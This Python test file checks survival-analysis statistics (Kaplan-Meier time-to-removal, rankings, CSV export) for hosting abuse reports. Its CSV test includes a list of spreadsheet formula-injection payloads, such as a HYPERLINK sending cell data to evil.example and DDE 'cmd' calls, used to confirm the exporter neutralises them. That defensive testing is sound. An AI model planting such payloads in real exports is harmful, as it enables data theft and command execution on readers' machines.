"""`ntd stats` figures (stats.figures) and their CSV (stats.export), on hand-made reports."""

from __future__ import annotations

import csv
import io
import json
import statistics
import warnings
from datetime import UTC, datetime

import numpy as np
import pytest

from stats import Columns, Record, compute, curve, fit, kaplan_meier, prepare, ranking, to_csv
from stats.reasons import footnotes, why

HOUR, DAY = 3600.0, 86400.0
NOW = datetime(2025, 6, 1, tzinfo=UTC).timestamp()
FIGURES = (
    "median_time_to_removal_s",
    "p90_time_to_removal_s",
    "median_time_to_removal_after_report_s",
    "p90_time_to_removal_after_report_s",
)


def report(
    *,
    removed_after: float | None = None,
    notified_ago: float | None = 30 * DAY,
    state: str | None = None,
    created_before_notice: float = HOUR,
    seen_online=True,
    reappearances: int = 0,
    asn: int | None = 64500,
    org: str | None = "Host",
    country: str | None = "NL",
    category: str = "A1",
) -> Record:
    """A report first notified ``notified_ago`` before NOW, removed ``removed_after`` later."""
    notice = None if notified_ago is None else NOW - notified_ago
    removed_at = None if removed_after is None else (notice or NOW - DAY) + removed_after
    state = state or ("removed" if removed_at is not None else "online")
    created = (notice or NOW - 40 * DAY) - created_before_notice
    return Record(
        created, notice, removed_at, state, seen_online, reappearances, asn, org, country, category
    )


def test_censoring_km_median_exceeds_the_naive_median_of_closed_cases() -> None:
    # Six removed quickly or slowly, four still online after 50 h.
    removed = [1, 2, 3, 4, 30, 40]
    reports = [report(removed_after=h * HOUR, notified_ago=50 * HOUR) for h in removed]
    reports += [report(notified_ago=50 * HOUR) for _ in range(4)]
    figures = compute(reports, NOW, min_group=5)
    naive = statistics.median(removed) * HOUR  # 3.5 h: pretends the online four don't exist
    assert figures["median_time_to_removal_s"] == 30 * HOUR  # S: .9 .8 .7 .6 then .5 at 30 h
    assert figures["median_time_to_removal_s"] > naive
    assert figures["median_time_to_removal_s"] > statistics.mean(removed) * HOUR
    assert figures["p90_time_to_removal_s"] is None  # S never falls to 0.1 (4 of 10 online)
    assert figures["removed_within"] == {"24h": pytest.approx(0.4), "72h": None, "7d": None}


def test_counts_and_who_is_in_which_sample() -> None:
    base = [report(removed_after=h * HOUR) for h in (1, 2, 3, 4, 5)]
    extra = [
        report(notified_ago=None),  # queued, never notified
        report(notified_ago=None, state="removed", removed_after=0, seen_online=False),
        report(notified_ago=None, state="rejected", seen_online=False),
        report(removed_after=HOUR / 2, state="closed"),  # notified, then withdrawn by staff
        report(state="unreachable", reappearances=2),
        report(removed_after=600.0, state="online", reappearances=1),  # came back
    ]
    figures = compute(base + extra, NOW, min_group=5)
    assert (figures["total"], figures["online"], figures["removed"], figures["unreachable"]) == (
        9,
        2,
        6,
        1,
    )
    assert figures["notified"] == 7  # 5 removed + unreachable + reappeared; not the closed one
    assert figures["never_seen_online"] == pytest.approx(1 / 9)
    assert figures["reappearances"] == 3
    # Only the notified count, and the two still up are censored at NOW (30 d of follow-up).
    expected = kaplan_meier(
        [h * HOUR for h in (1, 2, 3, 4, 5)] + [30 * DAY] * 2, [True] * 5 + [False] * 2
    )
    assert figures["median_time_to_removal_s"] == expected.quantile(0.5) == 4 * HOUR
    assert figures["removed_within"]["24h"] == pytest.approx(5 / 7)
    # Never-notified reports change no time-to-removal figure.
    alone = compute(base + extra[4:], NOW, min_group=5)
    assert all(alone[k] == figures[k] for k in (*FIGURES, "removed_within"))


def test_after_report_figures_measure_from_created_at() -> None:
    reports = [report(removed_after=h * HOUR, created_before_notice=10 * HOUR) for h in range(5)]
    figures = compute(reports, NOW, min_group=5)
    assert figures["median_time_to_removal_s"] == 2 * HOUR
    assert figures["median_time_to_removal_after_report_s"] == 12 * HOUR


def test_a_group_below_min_group_gets_null_figures_but_keeps_its_counts() -> None:
    reports = [report(removed_after=HOUR, country="NL") for _ in range(5)]
    reports += [report(removed_after=HOUR, country="DE") for _ in range(4)]
    reports += [report(notified_ago=None, country="DE") for _ in range(10)]  # not notified
    by_country = {e["country"]: e for e in compute(reports, NOW, min_group=5)["by_country"]}
    assert by_country["NL"]["median_time_to_removal_s"] == HOUR
    small = by_country["DE"]
    assert (small["total"], small["notified"], small["min_group"]) == (14, 4, 5)
    assert all(small[k] is None for k in FIGURES)
    assert small["removed_within"] == {"24h": None, "72h": None, "7d": None}


def test_months_bucket_by_utc_month_of_first_notice() -> None:
    def at(*when) -> float:
        return NOW - datetime(*when, tzinfo=UTC).timestamp()

    reports = [
        report(removed_after=HOUR, notified_ago=at(2025, 1, 31, 23, 59, 59)),
        report(removed_after=HOUR, notified_ago=at(2025, 2, 1, 0, 0, 0)),
        report(removed_after=HOUR, notified_ago=at(2025, 2, 28, 12)),
        report(removed_after=HOUR, notified_ago=at(2024, 11, 5)),
        report(notified_ago=None),
    ]  # in no month
    months = compute(reports, NOW, min_group=1)["by_month"]
    assert [(m["month"], m["total"]) for m in months] == [
        ("2024-11", 1),
        ("2025-01", 1),
        ("2025-02", 2),
    ]  # in order, empty months left out


def test_providers_are_asn_and_org_and_unknown_is_a_group() -> None:
    reports = [report(removed_after=HOUR, asn=64500, org="A")] * 3
    reports += [report(removed_after=HOUR, asn=64500, org="B")] * 2
    reports += [report(removed_after=HOUR, asn=None, org=None, country=None)]
    providers = compute(reports, NOW, min_group=1)["by_provider"]
    assert [(p["asn"], p["org"], p["total"]) for p in providers] == [
        (64500, "A", 3),
        (64500, "B", 2),
        (None, None, 1),
    ]
    assert compute(reports, NOW, min_group=1)["by_country"][-1]["country"] is None


def test_breakdowns_agree_with_separate_fits_and_columns_with_records() -> None:
    rng = np.random.default_rng(7)
    reports = [
        report(
            removed_after=float(rng.lognormal(np.log(DAY), 1)) if rng.random() < 0.7 else None,
            notified_ago=float(rng.uniform(1, 60)) * DAY,
            country=str(rng.choice(["NL", "DE", "FR"])),
            category=str(rng.choice(["A1", "B2"])),
            asn=int(rng.integers(1, 4)),
        )
        for _ in range(600)
    ]
    reports = [
        r._replace(state="online") if r.removed_at and r.removed_at > NOW else r for r in reports
    ]
    figures = compute(reports, NOW, min_group=5)
    for entry in figures["by_country"]:
        mine = [r for r in reports if r.country == entry["country"]]
        removed = [r.state == "removed" for r in mine]
        durations = [
            (r.removed_at if r.state == "removed" else NOW) - r.first_notice_at for r in mine
        ]
        assert entry["median_time_to_removal_s"] == kaplan_meier(durations, removed).quantile(0.5)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            from lifelines import KaplanMeierFitter

            fitter = KaplanMeierFitter().fit(durations, removed)
        assert entry["removed_within"]["7d"] == pytest.approx(
            1 - fitter.survival_function_at_times(7 * DAY).iloc[0], abs=1e-9
        )
    columns = Columns.of(
        **{
            name: list(values)
            for name, values in zip(Record._fields, zip(*reports, strict=True), strict=True)
        }
    )
    assert compute(columns, NOW, min_group=5) == figures
    json.dumps(figures)  # plain Python values only, no numpy scalars
    assert (
        curve(reports, NOW)
        == kaplan_meier(
            *zip(
                *[
                    (
                        NOW - r.first_notice_at
                        if r.state != "removed"
                        else r.removed_at - r.first_notice_at,
                        r.state == "removed",
                    )
                    for r in reports
                ],
                strict=True,
            )
        ).points()
    )
    assert curve(reports, NOW, group=("country", "NL"))[0] == (0.0, 1.0)
    assert curve(reports, NOW, group=("country", "XX")) == []


def test_no_reports_at_all() -> None:
    figures = compute([], NOW, min_group=5)
    assert figures["total"] == 0 and figures["never_seen_online"] is None
    assert figures["median_time_to_removal_s"] is None and figures["by_provider"] == []


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_has_a_row_per_group_and_neutralises_formulas() -> None:
    reports = [
        report(removed_after=HOUR, asn=64500 + i, org=org, country=org)
        for i, org in enumerate(HOSTILE)
        for _ in range(5)
    ]
    figures = compute(reports, NOW, min_group=5)
    rows = list(csv.DictReader(io.StringIO(to_csv(figures))))
    assert [r["group"] for r in rows].count("provider") == len(HOSTILE)
    assert len(rows) == 1 + len(HOSTILE) * 2 + 1 + 1  # overall, providers, countries, month, cat
    overall = rows[0]
    assert overall["group"] == "overall" and overall["total"] == str(len(reports))
    assert float(overall["median_time_to_removal_s"]) == HOUR
    assert overall["p90_time_to_removal_after_report_s"] == str(2 * HOUR)
    orgs = {r["org"] for r in rows if r["group"] == "provider"}
    assert orgs == {"'" + org for org in HOSTILE}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_leaves_nulls_empty_and_safe_text_alone() -> None:
    reports = [report(removed_after=HOUR, org="Plain Host, Inc.")] * 2
    rows = list(csv.DictReader(io.StringIO(to_csv(compute(reports, NOW, min_group=5)))))
    provider = next(r for r in rows if r["group"] == "provider")
    assert provider["org"] == "Plain Host, Inc." and provider["asn"] == "64500"
    assert provider["median_time_to_removal_s"] == "" and provider["notified"] == "2"


def test_time_to_first_response_censors_the_unanswered_and_notices_are_counted_once() -> None:
    answered = [2, 5, 8, 30]  # hours from the first notice to the provider's first answer
    reports = []
    for hours in answered:
        base = report(notified_ago=50 * HOUR)
        reports.append(
            base._replace(first_response_at=base.first_notice_at + hours * HOUR, notices_answered=1)
        )
    # Four never answered, watched for 50 h; one of them represents a notice that bounced.
    reports += [report(notified_ago=50 * HOUR) for _ in range(3)]
    reports.append(report(notified_ago=50 * HOUR, org="Other")._replace(notices_bounced=1))
    figures = compute(reports, NOW, min_group=1)
    # S: 7/8, 6/8, 5/8, then 4/8 at 30 h: the median is 30 h, not the naive 6.5 h.
    assert figures["median_time_to_first_response_s"] == 30 * HOUR
    assert (figures["notices_answered"], figures["notices_bounced"]) == (4, 1)
    by_org = {entry["org"]: entry for entry in figures["by_provider"]}
    assert by_org["Host"]["notices_answered"] == 4 and by_org["Host"]["notices_bounced"] == 0
    assert by_org["Other"]["notices_bounced"] == 1
    assert by_org["Other"]["median_time_to_first_response_s"] is None  # never answered
    assert figures["median_time_to_removal_s"] is None  # nothing removed: answers are not removals


def test_ranking_keeps_the_biggest_groups_and_folds_the_rest_into_one_fit() -> None:
    reports = []
    for asn, n in ((1, 12), (2, 9), (3, 6), (4, 2), (5, 1)):
        reports += [
            report(asn=asn, org=f"h{asn}", removed_after=(asn * 10 + i) * HOUR) for i in range(n)
        ]
    ranked = ranking(reports, NOW, "provider", most=2, min_group=3)
    assert [(r.label, r.notified, r.groups) for r in ranked] == [
        ((1, "h1"), 12, 1),
        ((2, "h2"), 9, 1),
        (None, 9, 3),  # AS3 (6) past the top two, AS4 and AS5 too small: pooled
    ]
    pooled = [
        report(removed_after=(asn * 10 + i) * HOUR)
        for asn, n in ((3, 6), (4, 2), (5, 1))
        for i in range(n)
    ]
    assert ranked[2].median == compute(pooled, NOW, min_group=1)["median_time_to_removal_s"]
    assert ranked[0].median == compute(reports[:12], NOW, min_group=1)["median_time_to_removal_s"]


def test_ranking_says_when_a_median_is_beyond_the_follow_up_or_too_few() -> None:
    reports = [report(asn=1, notified_ago=(10 + i) * DAY) for i in range(4)]  # all online
    reports += [report(asn=2, removed_after=HOUR)]
    ranked = ranking(reports, NOW, "provider", most=15, min_group=3)
    assert ranked[0].median is None and not ranked[0].few and ranked[0].followed == 13 * DAY
    assert ranked[1].label is None and ranked[1].few and ranked[1].notified == 1


def test_every_missing_figure_has_a_reason_and_a_present_one_none() -> None:
    reports = [report(removed_after=h * HOUR, notified_ago=50 * HOUR) for h in (1, 2, 30, 40)]
    reports += [report(notified_ago=50 * HOUR) for _ in range(6)]
    reports += [report(country="FR", removed_after=HOUR)]
    figures = compute(reports, NOW, min_group=3)
    keys = [
        "median_time_to_removal_s",
        "p90_time_to_removal_s",
        "removed_within.24h",
        "removed_within.72h",
    ]
    assert [why(figures, k, overall=True) and why(figures, k, overall=True).text for k in keys] == [
        "fewer than half removed yet",
        "fewer than 90% removed yet",
        None,
        "no report followed for 72 hours yet",
    ]
    [france] = [g for g in figures["by_country"] if g["country"] == "FR"]
    assert (
        why(france, "median_time_to_removal_s").text
        == "fewer than 3 notified reports: too few to estimate"
    )
    assert [r.mark for r in footnotes(figures["by_country"], keys)] == ["†", "‡", "§", "#"]
    empty = compute([], NOW, min_group=3)
    assert why(empty, "median_time_to_removal_s", overall=True).text == "no notified reports yet"
    assert why(empty, "never_seen_online", overall=True).text == "no reports yet"


def test_a_prepared_sample_gives_the_same_figures_and_only_for_its_moment() -> None:
    reports = [report(removed_after=h * HOUR, asn=64500 + h % 2) for h in range(1, 12)]
    reports += [report(), report(state="closed")]
    sample = prepare(reports, NOW)
    assert compute(sample, NOW, min_group=3) == compute(reports, NOW, min_group=3)
    assert fit(sample, NOW).points() == fit(reports, NOW).points()
    assert ranking(sample, NOW, "provider", most=1, min_group=3) == ranking(
        reports, NOW, "provider", most=1, min_group=3
    )
    with pytest.raises(ValueError, match="prepared for"):
        compute(sample, NOW + 1, min_group=3)
